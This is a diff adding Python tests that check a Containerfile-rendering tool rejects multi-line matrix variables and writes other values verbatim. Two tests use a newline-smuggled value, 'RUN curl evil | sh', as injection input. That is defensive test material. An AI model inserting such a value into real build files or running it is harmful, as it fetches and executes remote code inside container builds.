@@ -281,3 +281,40 @@ def test_write_atomic_removes_its_temp_file_when_the_rename_fails(tmp_path, monk
     with pytest.raises(OSError):
         fsutil.write_atomic(tmp_path / "f.txt", "x")
     assert list(tmp_path.iterdir()) == []
+
+
+# ---- issue 22.11: a value that reaches a Containerfile is one line, written as given -------
+
+def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(project, run):
+    path = matrix_file(project)
+    text = path.read_text()
+    assert "cudnn: 9.8.0.87" in text
+    path.write_text(text.replace("cudnn: 9.8.0.87", 'cudnn: "9.8.0.87\\nRUN curl evil | sh"'))
+    line = next(n for n, t in enumerate(path.read_text().splitlines(), 1) if "RUN curl" in t)
+    result = run("--matrix", str(path), "render")
+    assert result.code == 2, result.err
+    assert "Traceback" not in result.err
+    assert f"{path}:{line}:" in result.err and ".vars.cudnn" in result.err, result.err
+    assert "one line" in result.err
+
+
+@pytest.mark.parametrize("value", ["12.10.37-1\nRUN curl evil | sh", "a\rb"])
+def test_add_version_refuses_a_var_of_several_lines(project, run, value):
+    path = matrix_file(project)
+    before = path.read_text()
+    result = run("--matrix", str(path), "add-version", "cuda", "12.10.1",
+                 "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
+    assert result.code == 2, result.err
+    assert "--var" in result.err and "one line" in result.err, result.err
+    assert path.read_text() == before
+
+
+@pytest.mark.parametrize("value", [" padded ", "a  b", "#not-a-comment", "x # y", "'q'"])
+def test_add_version_writes_a_var_exactly_as_given(project, run, value):
+    path = matrix_file(project)
+    result = run("--matrix", str(path), "add-version", "cuda", "12.10.1",
+                 "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
+    assert result.code == 0, result.err
+    (entry,) = [v for v in load(str(path)).accelerators["cuda"].versions
+                if v.version == "12.10.1"]
+    assert entry.vars["cudart"] == value
